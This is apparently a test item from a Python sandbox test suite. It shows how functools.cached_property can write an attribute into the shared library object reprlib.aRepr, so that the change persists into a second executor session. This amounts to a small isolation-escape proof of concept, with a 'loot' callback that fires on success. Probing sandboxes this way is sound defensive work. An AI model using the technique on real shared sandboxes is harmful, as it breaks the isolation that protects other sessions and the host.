# aim: let a cached property write into the dictionary of a library object
# mechanism: cached_property.__get__ stores its result in instance.__dict__
# language: builtins
# reason: library objects are shared by every session and by the host
# jail: process
# plain: loot

import functools
import reprlib

hook = functools.cached_property(lambda self: 3)
hook.attrname = "escaped"
getattr(hook, "__get__")(reprlib.aRepr)
# --- second executor
import reprlib

if hasattr(reprlib.aRepr, "escaped"):
    loot("mutated: reprlib.aRepr")
